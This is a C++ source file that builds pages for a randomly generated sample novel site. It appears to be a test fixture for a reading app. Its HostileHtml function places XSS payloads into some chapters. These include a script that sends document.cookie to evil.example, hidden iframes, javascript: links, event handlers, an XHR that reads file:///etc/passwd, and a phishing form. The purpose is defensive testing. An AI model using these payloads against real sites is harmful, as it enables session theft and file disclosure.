// Book information pages, chapter lists, chapters, whole-book texts, covers.

#include "cover_image.h"
#include "made_up_text.h"
#include "page_parts.h"
#include "pages.h"
#include "random.h"
#include "scrape/gbk_literal.h"

namespace sample_site {
namespace {

GbkText StateText(const Book& book) {
  return book.finished ? "已完成"_gbk : "连载中"_gbk;
}

GbkText SiteNotice() {
  return "本站公告：Tavelin示例书站的全部内容均为随机生成，仅供测试阅读器使用。<br />"_gbk;
}

// Scripts, frames, objects, event handlers, javascript: links and a script
// that tries to read a local file: everything a reading page must not run.
GbkText HostileHtml() {
  return "&nbsp;&nbsp;&nbsp;&nbsp;<script "
         "type=\"text/javascript\">alert(document.cookie);</script>\n"
         "<SCRIPT>document.location='http://evil.example/steal?c='+document.cookie</SCRIPT>\n"
         "<iframe src=\"http://evil.example/frame.html\" width=\"1\" height=\"1\"></iframe>\n"
         "<IFRAME SRC=\"javascript:alert('frame')\"></IFRAME>\n"
         "<object data=\"http://evil.example/x.swf\" type=\"application/x-shockwave-flash\">"
         "<embed src=\"http://evil.example/x.swf\" /></object>\n"
         "<img src=\"x.gif\" onerror=\"alert('onerror')\" /> <p onclick=\"alert('click')\" "
         "onMouseOver=\"alert('over')\">点我有惊喜</p>\n"
         "<a href=\"javascript:alert('link')\">点这里</a> "
         "<a href=\"JaVaScRiPt:void(document.body.innerHTML='')\">再点这里</a>\n"
         "<script>var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); "
         "x.send(null); document.title = x.responseText;</script>\n"
         "<form action=\"http://evil.example/post\"><input type=\"submit\" value=\"领取奖励\" "
         "/></form>\n"
         "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\" />\n"
         "<base href=\"http://evil.example/\" />\n"
         "<svg onload=\"alert('svg')\"></svg>"_gbk;
}

}  // namespace

ByteString BookCover(const Book& book) {
  return CoverPng(MixSeed(book.textSeed, 0x500000000ULL));
}

GbkText BookInfoPage(const Catalogue& catalogue, const Book& book, std::string_view baseUrl) {
  GbkText base(baseUrl);
  GbkText cover = base + CoverPath(book.id);
  GbkText page = PageTop(book.title, baseUrl);
  page += "<div class=\"main\">\n<div class=\"ad_top\"><script type=\"text/javascript\" src=\"" +
          base + "/ad/info_468x60.js\"></script></div>\n";
  page +=
      "<table width=\"100%\" border=\"0\" cellspacing=\"0\" cellpadding=\"3\" class=\"grid\">\n";
  page +=
      "<tr>\n<td align=\"center\" valign=\"top\"><span style=\"font-size:16px; font-weight: bold; "
      "line-height: 150%\">" +
      book.title + "</span></td>\n</tr>\n";
  page += "<tr><td>\n<table width=\"100%\" border=\"0\"><tr>\n";
  page += "<td width=\"20%\" align=\"center\" valign=\"top\"><a href=\"" + cover +
          "\" target=\"_blank\"><img src=\"" + cover +
          "\" border=\"0\" width=\"100\" height=\"125\" alt=\"" + book.title + "\" /></a></td>\n";
  page += "<td valign=\"top\">\n<table width=\"100%\" class=\"info\">\n<tr>\n";
  page +=
      "<td width=\"33%\">类&nbsp;&nbsp;&nbsp; 别："_gbk + CategoryName(book.category) + "</td>\n";
  page += "<td width=\"33%\">作&nbsp;&nbsp;&nbsp; 者："_gbk + book.author + "</td>\n";
  page += "<td>全文长度："_gbk + NumberToText(book.words) + "字</td>\n</tr>\n<tr>\n"_gbk;
  page += "<td>文章状态："_gbk + StateText(book) + "</td>\n";
  page += "<td>首发状态："_gbk + (book.firstHere ? "本站首发"_gbk : "他站首发"_gbk) + "</td>\n";
  page += "<td>授权级别："_gbk + (book.licensed ? "授权作品"_gbk : "暂未授权"_gbk) +
          "</td>\n</tr>\n<tr>\n";
  page += "<td>最后更新："_gbk + DateTimeText(book.updateMinute) + "</td>\n";
  page += "<td>总点击数："_gbk + NumberToText(book.counters[0]) + "</td>\n";
  page += "<td>总推荐数："_gbk + NumberToText(book.counters[3]) + "</td>\n</tr>\n</table>\n";
  page += "<div class=\"intro\"><span class=\"hottext\">内容简介：</span>"_gbk +
          catalogue.Introduction(book) + "<br />\n<span class=\"hottext\">最近章节：</span>"_gbk;
  if (book.chapterCount > 0) {
    Chapter latest = catalogue.ChapterAt(book, book.chapterCount - 1);
    page += "<a href=\"" + base + ChapterPath(book.id, latest.number) + "\">" + latest.title +
            "</a><br />\n";
  } else {
    page += "暂无章节\n"_gbk;
  }
  page += "</div>\n</td>\n</tr></table>\n</td></tr>\n";
  page +=
      "<tr><td bgcolor=\"#000000\" height=\"1\"></td>\n</tr>\n<tr><td>\n<ul class=\"readbtn\">\n";
  page += "<li><a href=\"" + base + ChapterListPath(book.id) + "\">点击阅读</a></li>\n"_gbk;
  page += "<li><a href=\"" + base +
          "/modules/article/addbookcase.php?bid=" + NumberToText(book.id) +
          "\">加入书架</a></li>\n"_gbk;
  page += "<li><a href=\"" + base + "/modules/article/uservote.php?id=" + NumberToText(book.id) +
          "\">推荐本书</a></li>\n"_gbk;
  page += "<li><a href=\"" + base +
          "/modules/article/articlemanage.php?id=" + NumberToText(book.id) +
          "\">文章管理</a></li>\n</ul>\n</td></tr>\n"_gbk;
  page += "<tr><td class=\"download\">全本下载："_gbk;
  page +=
      "<a href=\"" + base + DownloadPath(book.id, DownloadKind::kTxt) + "\">TXT 全文</a> | "_gbk;
  page +=
      "<a href=\"" + base + DownloadPath(book.id, DownloadKind::kUdm) + "\">UDM 全文</a> | "_gbk;
  page += "<a href=\"" + base + DownloadPath(book.id, DownloadKind::kJar) +
          "\">JAR 全文</a></td></tr>\n"_gbk;
  page += "<tr><td>作品关键字："_gbk + book.title + " " + book.author + " " +
          CategoryName(book.category) + "</td></tr>\n</table>\n</div>\n";
  page += PageBottom(baseUrl);
  return WithCrlf(page);
}

GbkText ChapterListPage(const Catalogue& catalogue, const Book& book, std::string_view baseUrl) {
  GbkText base(baseUrl);
  GbkText page = PageTop(book.title + "最新章节列表"_gbk, baseUrl);
  page.reserve(page.size() + static_cast<std::size_t>(book.chapterCount) * 80 + 4096);
  page += "<div class=\"main\">\n<div class=\"title\"><h1>" + book.title + "</h1><span>作者："_gbk +
          book.author + "</span></div>\n";
  page +=
      "<div class=\"tools\"><a href=\"javascript:window.external.AddFavorite(location.href, "
      "document.title)\">加入收藏夹</a> | <a href=\"http://myweb.yahoo.com/myresults/bookmarklet?t="_gbk +
      NumberToText(book.id) + "\">到雅虎收藏</a> | <a href=\""_gbk + base + BookInfoPath(book.id) +
      "\">返回书页</a></div>\n"_gbk;
  page += "<div class=\"list\">\n";
  if (book.chapterCount > 0) {
    Chapter latest = catalogue.ChapterAt(book, book.chapterCount - 1);
    page += "<div class=\"latest\"><li><a href=\"" + NumberToText(latest.number) + ".html\">" +
            latest.title + "</a></li></div>\n";
  }
  int volumes = Catalogue::VolumeCount(book);
  for (int volume = 0; volume < volumes; ++volume) {
    page += "<div class=\"volume\">" + catalogue.VolumeTitle(book, volume) + "</div>\n<ul>\n";
    int first = volume * book.volumeLength;
    int last = std::min(book.chapterCount, first + book.volumeLength);
    for (int index = first; index < last; ++index) {
      Chapter chapter = catalogue.ChapterAt(book, index);
      page += "<li><a href=\"" + NumberToText(chapter.number) + ".html\">" + chapter.title +
              "</a></li>\n";
    }
    if (volume % 2 == 1) page += "<li><a href=\"\">（本卷完）</a></li>\n"_gbk;
    page += "</ul>\n";
  }
  page += "</div>\n<div class=\"bottom\"><script type=\"text/javascript\" src=\"" + base +
          "/ad/list_bottom.js\"></script></div>\n</div>\n";
  page += PageBottom(baseUrl);
  return WithCrlf(page);
}

GbkText ChapterTextHtml(const Catalogue& catalogue, const Book& book, int index, bool hostile) {
  GbkTextList paragraphs;
  for (const GbkText& paragraph : catalogue.ChapterParagraphs(book, index)) {
    paragraphs.push_back("&nbsp;&nbsp;&nbsp;&nbsp;" + paragraph);
  }
  if (hostile || index == book.hostileChapter) {
    paragraphs.insert(paragraphs.begin() + 1, WithCrlf(HostileHtml()));
  }
  GbkText text = "\n";
  for (std::size_t i = 0; i < paragraphs.size(); ++i) {
    if (i > 0) text += "<br />\r\n<br />\r\n";
    text += paragraphs[i];
  }
  return text;
}

GbkText ChapterPage(const Catalogue& catalogue, const Book& book, int index, bool hostile,
                    std::string_view baseUrl) {
  GbkText base(baseUrl);
  Chapter chapter = catalogue.ChapterAt(book, index);
  GbkText folder = base + ChapterListPath(book.id);
  auto neighbour = [&](int other, const GbkText& caption) {
    if (other < 0 || other >= book.chapterCount)
      return "<a href=\"" + folder + "\">" + caption + "</a>";
    return "<a href=\"" + NumberToText(catalogue.ChapterAt(book, other).number) + ".html\">" +
           caption + "</a>";
  };
  GbkText nav = "<div class=\"chapternav\">" + neighbour(index - 1, "上一章"_gbk) +
                " | <a href=\"" + folder + "\">返回目录</a> | "_gbk +
                neighbour(index + 1, "下一章"_gbk) + "</div>\n";
  GbkText page = PageTop(chapter.title + " - "_gbk + book.title, baseUrl);
  page += "<div class=\"main\">\n<div id=\"title\">" + chapter.title + "</div>\n" + nav;
  page += "<div class=\"ad_text\"><script type=\"text/javascript\" src=\"" + base +
          "/ad/text_ad.js\"></script></div>\n";
  page += "<div id=\"BookText\">\r";
  page += ChapterTextHtml(catalogue, book, index, hostile);
  page += "<br><br>&nbsp;&nbsp;" + SiteNotice() + "\n</div>\n";
  page += "<div class=\"downloads t1\"><a href=\"" + base +
          DownloadPath(book.id, DownloadKind::kTxt) + "\">下载本书TXT</a> | <a href=\""_gbk + base +
          "/modules/article/addbookcase.php?bid=" + NumberToText(book.id) +
          "&cid=" + NumberToText(chapter.number) + "\">加入书签</a></div>\n"_gbk;
  page += nav + "</div>\n";
  page += PageBottom(baseUrl);
  return WithCrlf(page);
}

GbkText WholeBookText(const Catalogue& catalogue, const Book& book) {
  GbkText text = "《"_gbk + book.title + "》\r\n作者："_gbk + book.author +
                 "\r\n来源：Tavelin示例书站\r\n\r\n"_gbk;
  int currentVolume = -1;
  for (int index = 0; index < book.chapterCount; ++index) {
    Chapter chapter = catalogue.ChapterAt(book, index);
    if (chapter.volume != currentVolume) {
      currentVolume = chapter.volume;
      text += catalogue.VolumeTitle(book, currentVolume) + "\r\n\r\n";
    }
    text += chapter.title + "\r\n\r\n";
    for (const GbkText& paragraph : catalogue.ChapterParagraphs(book, index)) {
      text += "    " + paragraph + "\r\n\r\n";
    }
  }
  return text;
}

}  // namespace sample_site
